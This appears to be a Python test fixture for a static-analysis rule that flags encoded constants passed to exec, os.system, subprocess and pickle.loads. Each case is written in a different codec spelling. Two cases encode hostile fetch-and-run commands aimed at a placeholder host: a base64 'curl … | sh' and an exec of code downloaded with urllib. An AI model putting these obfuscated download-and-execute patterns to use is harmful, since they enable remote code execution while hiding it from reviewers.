"""Decoded constants reaching every kind of sink, with every codec spelling Python accepts."""
import base64
import binascii
import codecs
import gzip
import lzma
import os
import pickle
import subprocess
import zlib

CMD = "Y3VybCAtZnNTTCBodHRwOi8vMTAuMC4wLjEvcyB8IHNo"  # curl -fsSL http://10.0.0.1/s | sh


def shell():
    os.system(base64.b64decode(CMD))  # expect: RCE005


def shell_true():
    subprocess.run(base64.b64decode("bHMgLWxh").decode(), shell=True)  # expect: RCE005


def python_c():
    subprocess.run(["python", "-c", base64.b64decode("cHJpbnQoMSk=").decode()])  # expect: RCE005


def pickled():
    pickle.loads(base64.b64decode("gASVBAAAAAAAAACMAXiULg=="))  # expect: RCE005


def spellings():
    exec(codecs.decode(b"cHJpbnQoMSk=", "BASE-64"))  # expect: RCE005
    exec(codecs.decode(b"cHJpbnQoMSk=", "base_64"))  # expect: RCE005
    exec(codecs.decode(b"7072696e7428312900", "hex_codec"))  # expect: RCE005
    exec(codecs.decode("cevag(1)", "ROT-13"))  # expect: RCE005
    exec(codecs.encode("cevag(1)", "rot13"))  # expect: RCE005
    exec(codecs.decode(b"x\x9c+(\xca\xcc+\xd10\xd4\x04\x00\x0e\x15\x02\xb0", "zip"))  # expect: RCE005


def others():
    exec(binascii.a2b_base64(b"cHJpbnQoMSk="))  # expect: RCE005
    exec(gzip.decompress(b"\x1f\x8b"))  # expect: RCE005
    exec(lzma.decompress(b"\xfd7zXZ"))  # expect: RCE005
    exec(zlib.decompressobj().decompress(b"x\x9c"))  # expect: RCE005


def fetching_payload():
    exec(base64.b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHU7IGV4ZWModS51cmxvcGVuKCJodHRwOi8vMTAuMC4wLjEveCIpLnJlYWQoKSk="))  # expect: RCE005
